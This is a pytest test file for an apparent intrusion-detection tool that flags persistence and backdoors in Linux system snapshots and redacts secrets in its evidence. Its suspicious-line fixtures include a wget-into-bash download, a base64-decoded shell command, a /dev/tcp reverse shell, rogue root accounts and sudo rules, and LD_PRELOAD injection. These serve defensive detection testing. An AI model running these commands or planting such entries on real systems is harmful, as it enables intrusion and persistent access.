"""The parts of a look for what an intruder left: places, signs, what is read of a restore point, and what is shown of it."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

from muster.errors import HarnessError
from muster.incidents import laid, shown
from muster.incidents.acting import acting, compiled_anew, counting, difference
from muster.incidents.laid import Item
from muster.incidents.places import STARTED_WITH, place
from muster.incidents.signs import signs
from tests.fake.laid import file, link, printed

CRON = "/etc/cron.d/x"
SECRET = "S3cretWordOfTheOwner"  # noqa: S105  # what nothing may show


@pytest.mark.parametrize(
    ("path", "kind"),
    [
        ("/root/.ssh/authorized_keys", "key that lets in"),
        ("/var/lib/app/.ssh/authorized_keys2", "key that lets in"),
        ("/etc/ssh/sshd_config.d/x.conf", "setting of the SSH server"),
        ("/home/pi/.ssh/rc", "setting of the SSH client"),
        ("/etc/sudoers.d/x", "rule for becoming root"),
        ("/etc/cron.hourly/x", "cron job"),
        ("/var/spool/cron/crontabs/pi", "cron job"),
        ("/var/spool/at/a0001", "cron job"),
        ("/etc/systemd/system/x.service.d/y.conf", "unit of systemd"),
        ("/usr/lib/systemd/system-generators/x", "unit of systemd"),
        ("/home/pi/.config/systemd/user/x.timer", "unit of systemd"),
        ("/etc/rc.local", "start-up script"),
        ("/etc/udev/rules.d/x.rules", "udev rule"),
        ("/etc/modules-load.d/x.conf", "setting of the kernel"),
        ("/etc/ld.so.preload", "setting of the loader"),
        ("/etc/ld.so.conf.d/x.conf", "setting of the loader"),
        ("/etc/environment", "environment"),
        ("/etc/profile.d/x.sh", "start-up file of a shell"),
        ("/home/pi/.bash_aliases", "start-up file of a shell"),
        ("/etc/pam.d/sshd", "rule of PAM or NSS"),
        ("/etc/nsswitch.conf", "rule of PAM or NSS"),
        ("/etc/shadow", "account"),
        ("/etc/postgresql/17/main/pg_hba.conf", "rule of who may connect"),
        ("/etc/apt/apt.conf.d/x", "hook of the package manager"),
        ("/etc/logrotate.d/x", "rule of logrotate"),
        ("/etc/network/if-up.d/x", "hook of the network"),
        ("/etc/NetworkManager/dispatcher.d/x", "hook of the network"),
        ("/etc/update-motd.d/x", "message of the day"),
        ("/usr/lib/python3/dist-packages/sitecustomize.py", "start-up file of Python"),
        ("/home/pi/venv/lib/python3.13/site-packages/x.pth", "start-up file of Python"),
        ("/home/pi/.config/autostart/x.desktop", "start-up of the desktop"),
        ("/srv/code/.git/hooks/post-merge", "hook of git"),
        ("/srv/code.git/hooks/post-receive", "hook of git"),
        ("/srv/app/docker-compose.yml", "container"),
        ("/usr/local/share/ca-certificates/x.crt", "authority that is trusted"),
        ("/home/pi/.forward", "mail filter"),
        ("/var/www/html/x.php", "script of the web server"),
        ("/usr/local/bin/x", "program"),
        ("/opt/app/main.py", "program"),
        ("/etc/mosquitto/passwords", "rule of who may connect"),
        ("/home/pi/.node-red/flows.json", "automation"),
        ("/var/lib/systemd/linger/pi", "unit of systemd"),
        ("/etc/muster/plan.toml", "command of a backup"),
        ("/usr/lib/environment.d/x.conf", "environment"),
        ("/etc/mosquitto/mosquitto.conf", "command in a configuration"),
    ],
)
def test_places_where_the_system_acts_by_itself_are_known(path: str, kind: str) -> None:
    where = place(path)
    assert where is not None
    assert where.kind == kind


@pytest.mark.parametrize(
    "path",
    [
        "/etc/app/app.conf",
        "/srv/media/a.jpg",
        "/etc/passwd-",
        "/home/pi/notes.txt",
        "/srv/code/.git/hooks/pre-commit.sample",
        "/var/log/cron.log",
    ],
)
def test_what_nothing_acts_on_is_in_no_place(path: str) -> None:
    assert place(path) is None


def test_scripts_that_a_unit_names_and_what_links_lead_to_act_too() -> None:
    unit = "[Service]\nExecStart=/bin/sh /etc/app/start.sh --config /etc/app/app.conf\nEnvironmentFile=-/etc/app/env\n"
    tree = {
        "/etc/systemd/system/a.service": file(unit),
        "/etc/systemd/system/b.service": link("../../app/b.service"),
        "/etc/systemd/system/c.service": file("[Service]\nWorkingDirectory=/srv/app\nExecStart=/usr/bin/python3 -m app\n"),
        "/etc/app/start.sh": file("true"),
        "/etc/app/env": file("PORT=80"),
        "/etc/app/b.service": file("[Service]"),
        "/srv/app/app.py": file("import os"),
    }
    bystanders = {"/etc/app/app.conf": file("port = 80"), "/srv/app/README": file("read me"), "/srv/other.py": file("")}
    assert set(acting(tree | bystanders, ["/etc"])) == set(tree)


def test_of_the_environment_of_a_unit_only_what_loads_something_counts() -> None:
    assert difference(STARTED_WITH, file("PORT=81"), file("PORT=80")) == []
    assert difference(STARTED_WITH, file("PORT=80\nLD_PRELOAD=/x.so"), file("PORT=80")) == ["was changed"]


def test_of_a_plan_only_new_commands_count() -> None:
    where = place("/etc/muster/plan.toml")
    assert where is not None
    then = file('rpo = "1h"\nrun = "count"\n')
    assert difference(where, file('rpo = "2h"\n'), then) == []
    assert counting(where, file('rpo = "2h"\nrun = "count; /tmp/x"\n'), then) == ['+ run = "count; /tmp/x"']


def test_what_can_be_executed_beside_a_configuration_is_a_program() -> None:
    assert acting({"/etc/nginx/hook": file("#!/bin/sh", 0o755)}, ["/etc"])["/etc/nginx/hook"].kind == "program"


@pytest.mark.parametrize(
    ("path", "text", "says"),
    [
        (CRON, "* * * * * root /dev/shm/x", "passing things (/dev/shm/x)"),
        (CRON, "@reboot root /tmp/x --now", "passing things (/tmp/x)"),
        (CRON, "5 4 * * 0 pi /usr/local/bin/.cache/run", "hidden (/usr/local/bin/.cache/run)"),
        (CRON, "5 4 * * 0 pi wget -qO- http://far.invalid/x | bash", "downloads"),
        (CRON, "5 4 * * 0 pi echo cm0= | base64 -d | sh", "decodes"),
        ("/etc/systemd/system/x.service", "[Service]\nExecStart=-/var/tmp/x\n", "passing things"),
        (
            "/etc/systemd/system/x.service",
            "[Service]\nExecStart=/bin/bash -c 'bash -i >& /dev/tcp/192.0.2.1/9 0>&1'\n",
            "a shell",
        ),
        ("/etc/udev/rules.d/x.rules", 'ACTION=="add", RUN+="/tmp/x"', "passing things"),
        ("/home/pi/.bashrc", "export LD_PRELOAD=/usr/lib/x.so", "library of its own"),
        ("/etc/passwd", "root:x:0:0::/root:/bin/sh\neve:x:0:0::/root:/bin/sh\n", "gives eve the rights of root"),
        ("/etc/shadow", "root:*:1::::::\neve::1::::::\n", "lets eve in"),
        ("/etc/sudoers.d/x", "www-data ALL=(ALL:ALL) NOPASSWD: ALL", "makes www-data root"),
        ("/etc/ssh/sshd_config", "PermitEmptyPasswords yes", "no password"),
    ],
)
def test_what_is_suspicious_by_itself_is_said(path: str, text: str, says: str) -> None:
    where = place(path)
    assert where is not None
    assert any(says in sign for sign in signs(path, file(text), where))


@pytest.mark.parametrize(
    ("path", "text"),
    [
        (CRON, "17 3 * * * root /usr/bin/find /tmp -mtime +9 -delete"),
        (CRON, "# * * * * * root /tmp/x"),
        (CRON, "0 * * * * pi curl -fsS https://ping.invalid/abc > /dev/null"),
        (CRON, "0 * * * * root test -e /run/systemd/system || /usr/bin/rsync -a /srv /tmp/copy"),
        ("/etc/systemd/system/x.service", "[Service]\nPIDFile=/tmp/x.pid\nExecStart=/usr/bin/x --socket /tmp/x.sock\n"),
        ("/home/pi/.bashrc", "[ -f ~/.bash_aliases ] && . ~/.bash_aliases\nexport PATH=$HOME/.local/bin:$PATH\n"),
        ("/home/pi/.profile", '. "/home/pi/.cargo/env"\n'),
        ("/etc/sudoers.d/010_pi-nopasswd", "pi ALL=(ALL) NOPASSWD: ALL"),
        ("/etc/sudoers.d/x", "www-data ALL=(root) NOPASSWD: /usr/bin/systemctl restart app"),
        ("/etc/passwd", "root:x:0:0::/root:/bin/sh\npi:x:1000:1000::/home/pi:/bin/bash\n"),
        ("/etc/shadow", "root:*:1::::::\npi:$y$j9T$abc:1::::::\n"),
        ("/etc/init.d/x", "#!/bin/sh\n. /lib/lsb/init-functions\nrm -f /tmp/x.lock\n"),
    ],
)
def test_what_owners_write_is_not_suspicious(path: str, text: str) -> None:
    where = place(path)
    assert where is not None
    assert [*signs(path, file(text), where)] == []


class TestWhatIsRead:
    def test_is_what_lies_there(self, tmp_path: Path) -> None:
        side = tmp_path / "a side's"
        (side / "etc").mkdir(parents=True)
        (side / "etc" / "small").write_text("few words")
        (side / "etc" / "small").chmod(0o4755)
        (side / "etc" / "large").write_bytes(b"x" * 300_000)
        (side / "etc" / "large").chmod(0o755)
        (side / "etc" / "link").symlink_to("small")
        os.link(side / "etc" / "small", side / "etc" / "twin")
        output = subprocess.run(["sh", "-c", laid.reading(str(side))], capture_output=True, check=True, text=True).stdout
        found = laid.read(output)
        assert set(found) == {"/etc", "/etc/small", "/etc/large", "/etc/link", "/etc/twin"}
        assert (found["/etc/small"].mode, found["/etc/small"].text) == (0o4755, "few words")
        assert found["/etc/twin"].digest == found["/etc/small"].digest
        assert (found["/etc/large"].content, found["/etc/large"].mode, len(found["/etc/large"].digest)) == (None, 0o755, 64)
        assert (found["/etc/link"].type, found["/etc/link"].target) == ("link", "small")
        assert not side.exists()

    def test_survives_the_way(self) -> None:
        items = {"/etc/a": file("x", 0o2755, uid=7, granted=(("security.capability", "y"),)), "/b": link("/c")}
        large = {"/big": Item("file", 0o755, 0, 0, "d" * 64)}
        assert laid.read(printed(items, large)) == items | large

    @pytest.mark.parametrize("output", ["", "\n\n\n", "\nx\ny\nwhole\n", printed({"/a": file("x")}).removesuffix("whole\n")])
    def test_is_all_of_it_or_an_error(self, output: str) -> None:
        with pytest.raises(HarnessError):
            laid.read(output)


KEY = "AAAAC3NzaC1lZDI1NTE5AAAAIBdTzYnVSAcVNnVCcDBSoO4DCZVZvZGtFJfNeqVgxkFJ"


class TestWhatIsShown:
    @pytest.mark.parametrize(
        ("path", "line"),
        [
            ("/etc/x", f"password = {SECRET}"),
            ("/etc/x", f'export API_TOKEN="{SECRET}"'),
            ("/etc/x", f"ExecStart=/usr/bin/mosquitto_pub -u eve -P {SECRET} -t x"),
            ("/etc/x", f"curl --user eve:{SECRET} http://far.invalid"),
            ("/etc/x", f"Authorization: {SECRET}x9"),
            ("/etc/nginx/.htpasswd", f"eve:{SECRET}"),
            ("/etc/x", f"url = postgres://eve:{SECRET}@db/app"),
            ("/etc/x", f'psk="two words {SECRET}"'),
            ("/etc/shadow", f"pi:$y$j9T$salt${SECRET}:1::::::"),
            ("/etc/x", f"openssl passwd '$6$salt${SECRET}'"),
        ],
    )
    def test_is_no_secret(self, path: str, line: str) -> None:
        assert SECRET not in shown.evidence(path, [f"+ {line}"])

    @pytest.mark.parametrize(
        "line",
        [
            "* * * * * root /usr/local/bin/updater --quiet",
            "ExecStart=/usr/local/lib/telemetry/run --port 8080",
            "eve:x:0:0::/root:/bin/bash",
            "www-data ALL=(ALL) NOPASSWD: ALL",
            "PermitRootLogin prohibit-password",
        ],
    )
    def test_is_what_a_line_does(self, line: str) -> None:
        assert shown.evidence("/etc/x", [f"+ {line}"]) == f"+ {line}"

    def test_of_a_key_is_its_fingerprint(self) -> None:
        line = f'+ command="/bin/x",no-pty ssh-ed25519 {KEY} eve@far'
        told = shown.evidence("/root/.ssh/authorized_keys", [line])
        assert KEY not in told
        assert told.startswith('+ command="/bin/x",no-pty ssh-ed25519 SHA256:')
        assert told.endswith("eve@far")

    def test_is_a_few_lines(self) -> None:
        told = shown.evidence("/etc/x", shown.changed_lines("", "\n".join(f"line {number}" for number in range(50))))
        assert told.count("\n") == 8
        assert told.endswith("and 42 more lines")


@pytest.mark.parametrize(
    ("then", "now", "anew"),
    [
        ({}, {"/a/x.py": file("1"), "/a/__pycache__/x.cpython-313.pyc": file("p")}, True),
        (
            {"/a/x.py": file("1"), "/a/__pycache__/x.cpython-313.pyc": file("p")},
            {"/a/x.py": file("2"), "/a/__pycache__/x.cpython-313.pyc": file("q")},
            True,
        ),
        (
            {"/a/x.py": file("1"), "/a/__pycache__/x.cpython-313.pyc": file("p")},
            {"/a/x.py": file("1"), "/a/__pycache__/x.cpython-313.pyc": file("q")},
            False,
        ),
        ({}, {"/a/__pycache__/x.cpython-313.pyc": file("p")}, False),
    ],
)
def test_compiled_python_counts_unless_its_source_explains_it(then: dict[str, Item], now: dict[str, Item], *, anew: bool) -> None:
    assert compiled_anew("/a/__pycache__/x.cpython-313.pyc", now, then) is anew
